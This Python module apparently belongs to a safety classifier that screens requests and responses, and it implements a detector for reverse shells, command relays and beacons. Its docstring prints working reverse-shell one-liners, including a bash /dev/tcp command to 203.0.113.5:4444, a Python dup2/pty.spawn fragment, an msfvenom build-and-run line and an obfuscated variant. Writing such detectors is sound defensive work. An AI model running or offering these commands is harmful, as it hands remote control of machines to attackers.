"""OUT-REVERSE-SHELL: a shell whose input and output are wired to an outbound connection.

What it catches
    Code or commands that connect out to a host and hand that connection a command shell: the
    socket duplicated onto standard input/output (`dup2`, `0>&1`, `nc -e`, `GetStream`,
    `proc_open` with the socket as descriptors) and a shell started on it; or a loop that reads
    commands from the connection (or polls a URL for them) and runs them through a shell.
    Spellings covered include bash/sh `/dev/tcp`, `nc -e`, fifo and `telnet` pipes (also behind
    `mkfifo ... &&`), `socat EXEC:`/`SYSTEM:`, `openssl s_client` pipes, awk `/inet/tcp` (also
    `/inet4`, `/inet6`, running what it reads from the socket with `cmd | getline`, a
    coprocess `(cmd |& getline out)` or `system(cmd)`), Python, Perl (`fdopen`, backticks over
    `<$sock>`), Ruby (`spawn` with `[:in, :out, :err] => s`, `$stdin.reopen(s)`, `IO.popen`,
    backticks over `gets`), PHP (`proc_open`, `popen`, `shell_exec(fgets($sock))`), Node
    (`net.connect` piped into `child_process`, `stdio: [s, s, s]`, `exec` on `'data'`), Lua, Go,
    C/C++ (POSIX and Winsock), Java, Groovy and Kotlin (a started process's streams copied both
    ways to a socket's: `pumped_streams.py`), PowerShell `TcpClient` with `iex` or a redirected
    `Process`, `xterm -display`. Also a payload generator's remote-shell payload built and run
    on the same command line (`msfvenom -p linux/x64/shell_reverse_tcp LHOST=... -o p && ./p`):
    running it opens the shell. A command line glued together from variables that hold its pieces
    (`a=ba;b=sh;c=/dev/tc;d=p/HOST/443;$a$b -i >& $c$d 0>&1`) is read spelled out
    (`spliced.py`), and so is Python whose modules and functions are named by character codes a
    helper of its own joins (`getattr(o, _s(100, 117, 112, 50))`: `run_time_names.py`).

Why it is a redline (RL-PERSISTENCE)
    It gives whoever listens at the other end interactive control of the machine: the basic
    command-and-control channel of an intrusion, and the usual payload of an exploit (so it
    also crosses RL-EXPLOIT for a request asking to break into a host and get a shell).
    Its pieces short of a whole one (a connection and a shell; or the standard streams put on
    a descriptor with `dup2` and a shell, the connection being the request's) are weighed
    with the request.

Example
    `bash -i >& /dev/tcp/203.0.113.5/4444 0>&1`; Python `s.connect((h, p)); os.dup2(s.fileno(), 0)
    ...; pty.spawn("/bin/sh")`.

Allowed instead
    A client that connects and exchanges data, a localhost port check, `ssh` to one's own host,
    explaining how reverse shells work or writing a rule that detects them, generating a
    payload for an authorised test without running it (`msfvenom ... -o p.elf`).
"""

from __future__ import annotations

from redline.redlines.capabilities import Capabilities
from redline.redlines.capabilities import Capability as Cap
from redline.redlines.registry import IN_A_RESPONSE, Detection, detector, pieces, supported


@detector("OUT-REVERSE-SHELL", redline="RL-PERSISTENCE", also_crosses=("RL-EXPLOIT",))
def reverse_shell(found: Capabilities) -> Detection | None:
    """Outbound connection + descriptor duplication (+ shell)."""
    core = (Cap.NET_CONNECT, Cap.DUP_FD, Cap.SHELL)
    if Cap.RUN_BUILT_PAYLOAD in found:
        return supported(found, 0.9, (Cap.RUN_BUILT_PAYLOAD,), Cap.RUN_BUILT_PAYLOAD.value)
    if found.has_all(*core):
        return supported(found, 0.95, core, pieces(*core))
    if found.has_all(Cap.NET_CONNECT, Cap.DUP_FD):
        # The socket already sits on the standard streams: the shell is one line away.
        return supported(found, 0.7, core[:2], pieces(*core[:2]))
    talks_back = [c for c in (Cap.NET_CONNECT, Cap.PACKET_SEND, Cap.NET_SEND) if c in found]
    if found.has_all(Cap.NET_RECV, Cap.SHELL) and talks_back:
        # Commands read from the network and run by a shell: the same control, by relay.
        relay = (Cap.NET_RECV, Cap.SHELL, *talks_back)
        return supported(found, 0.85, relay, pieces(*relay))
    if found.has_all(Cap.DOWNLOAD, Cap.SHELL, Cap.NET_SEND, Cap.ENDLESS_LOOP):
        # Polling a server for commands, running them and posting the output: a beacon.
        beacon = (Cap.DOWNLOAD, Cap.SHELL, Cap.NET_SEND, Cap.ENDLESS_LOOP)
        return supported(found, 0.8, beacon, "polls for commands, runs them, posts the output")
    if found.has_all(Cap.NET_CONNECT, Cap.SHELL):
        return supported(
            found, 0.45, (Cap.NET_CONNECT, Cap.SHELL), pieces(Cap.NET_CONNECT, Cap.SHELL)
        )
    if _duplicated(found) and Cap.SHELL in found and Cap.STREAMS_PIPED not in found:
        # A descriptor put on standard input and a shell started on it: the lines that follow
        # a connection made elsewhere (the request's own `s.connect(...)`), weighed with it.
        # A pipe's end given to a child (`pipe(fds)`, then `dup2(fds[0], 0)`) is popen.
        return supported(
            found, IN_A_RESPONSE, (Cap.DUP_FD, Cap.SHELL), pieces(Cap.DUP_FD, Cap.SHELL)
        )
    return None


def _duplicated(found: Capabilities) -> bool:
    """A descriptor duplicated by a call that duplicates (`dup2`, `dup3`, `dup`, `F_DUPFD`), not
    only a terminal spawned (`pty.spawn`, which alone wires nothing to a connection)."""
    return any("dup" in hit.text.lower() for hit in found.hits.get(Cap.DUP_FD, ()))
